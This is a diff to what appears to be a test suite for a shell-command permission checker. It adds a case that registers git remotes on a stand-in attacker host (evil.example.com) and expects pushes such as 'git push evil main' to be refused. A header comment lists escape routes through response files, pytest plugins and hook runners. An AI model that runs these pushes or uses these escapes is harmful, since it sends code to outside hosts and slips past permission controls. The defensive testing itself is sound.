@@ -1,7 +1,9 @@
 // Escapes through files a program reads as its own arguments or code (attack.sets.ts classes 19 and 22): zig's
 // bundled compilers and linkers read `@FILE` as clang and lld do; JVM tools and binutils take a response file's
 // lines as options (code nobody has seen); an optional config value given as the next word is still the config;
-// `pytest -p NAME` imports NAME from wherever the import path reaches; `lefthook run` runs what its config lists.
+// `pytest -p NAME` imports NAME from wherever the import path reaches; `lefthook run` runs what its config lists;
+// a push to a remote an earlier call added on another host than origin's sends the code there.
+import { execFileSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { checkEval, makeWorkspace } from './workspace';
@@ -76,6 +78,28 @@ describe('fresh26: response files, config values, plugins and hook runners', fun
       ]);
     } finally {
       fs.rmSync(path.join(w.ws, 'lefthook.yml'));
+    }
+  });
+
+  it('a push to a remote whose URL in .git/config is on another host than origin is asked', () => {
+    const git = (...a: string[]) => execFileSync('git', ['-C', w.ws, ...a]);
+    git('remote', 'add', 'origin', 'https://github.com/me/demo.git');
+    git('remote', 'add', 'evil', 'https://evil.example.com/x.git');
+    git('remote', 'add', 'upstream', 'git@github.com:org/demo.git');
+    git('remote', 'add', 'mirror', 'ssh://git@evil.example.com:2222/x.git');
+    git('remote', 'add', 'local', '../mirror');
+    try {
+      checkEval(w, [
+        ['git push evil main', 'not-allow'],
+        ['git push -u evil HEAD', 'not-allow'],
+        ['git push --force-with-lease mirror main', 'not-allow'],
+        ['git push origin main', 'allow'],
+        ['git push upstream main', 'allow'],
+        ['git push local main', 'allow'],
+        ['git push', 'allow'],
+      ]);
+    } finally {
+      for (const r of ['origin', 'evil', 'upstream', 'mirror', 'local']) git('remote', 'remove', r);
     }
   });
 });
